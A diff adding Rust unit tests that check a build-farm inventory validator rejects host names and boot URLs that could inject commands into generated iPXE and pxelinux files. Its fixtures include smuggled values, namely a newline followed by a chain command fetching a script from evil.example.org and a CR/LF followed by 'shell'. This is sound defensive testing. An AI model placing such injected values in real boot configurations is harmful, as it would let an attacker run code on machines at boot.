@@ -350,3 +350,56 @@ fn values_ipxe_cannot_carry_are_errors() {
               host de:ad:be:ef:b8:da: buildos.smtp_relay=tab\there: expected a value without control characters such as tabs or newlines"#]],
     );
 }
+
+#[test]
+fn host_name_with_a_newline_is_an_error_naming_the_host_field_and_value() {
+    // The name goes into comment lines; a newline in it would start an iPXE or pxelinux
+    // command of the inventory's choosing.
+    check(
+        &errors(
+            r#"
+[hosts."de:ad:be:ef:b8:da"]
+name = "build1\nchain http://evil.example.org/x.ipxe"
+[hosts."de:ad:be:ef:b8:db"]
+name = "rack 3"
+[hosts."de:ad:be:ef:b8:dc"]
+name = ""
+"#,
+        ),
+        expect![[r#"
+            the farm inventory has 3 error(s):
+              host de:ad:be:ef:b8:da: name="build1\nchain http://evil.example.org/x.ipxe": expected a name of 1 to 64 ASCII letters, digits, ., - and _ (it goes into comment lines of the generated files)
+              host de:ad:be:ef:b8:db: name="rack 3": expected a name of 1 to 64 ASCII letters, digits, ., - and _ (it goes into comment lines of the generated files)
+              host de:ad:be:ef:b8:dc: name: expected a name of 1 to 64 ASCII letters, digits, ., - and _ (it goes into comment lines of the generated files)"#]],
+    );
+}
+
+#[test]
+fn http_url_that_ipxe_would_read_as_more_than_a_url_is_an_error() {
+    check(
+        &errors(
+            "[boot]\nhttp_url = \"http://10.0.0.1/tree/\\r\\nshell\"\n\
+             [hosts.\"de:ad:be:ef:b8:da\"]\n\
+             [hosts.\"de:ad:be:ef:b8:db\"]\n",
+        ),
+        expect![[r#"
+            the farm inventory has 1 error(s):
+              boot: http_url=http://10.0.0.1/tree/\r\nshell: expected an http:// or https:// URL the tree is served at, without spaces, quotes, ${ or control characters"#]],
+    );
+    check(
+        &errors("[boot]\nhttp_url = \"http://${net0/ip}/tree\"\n"),
+        expect![[r#"
+            the farm inventory has 1 error(s):
+              boot: http_url=http://${net0/ip}/tree: expected an http:// or https:// URL the tree is served at, without spaces, quotes, ${ or control characters"#]],
+    );
+}
+
+#[test]
+fn toml_error_is_one_line_with_line_and_column() {
+    check(
+        &errors("[boot]\ntimeout = 50\n = [\"console=tty0\"]\n"),
+        expect![[r#"
+            the farm inventory has 1 error(s):
+              inventory: expected valid TOML: invalid key at line 3, column 2"#]],
+    );
+}
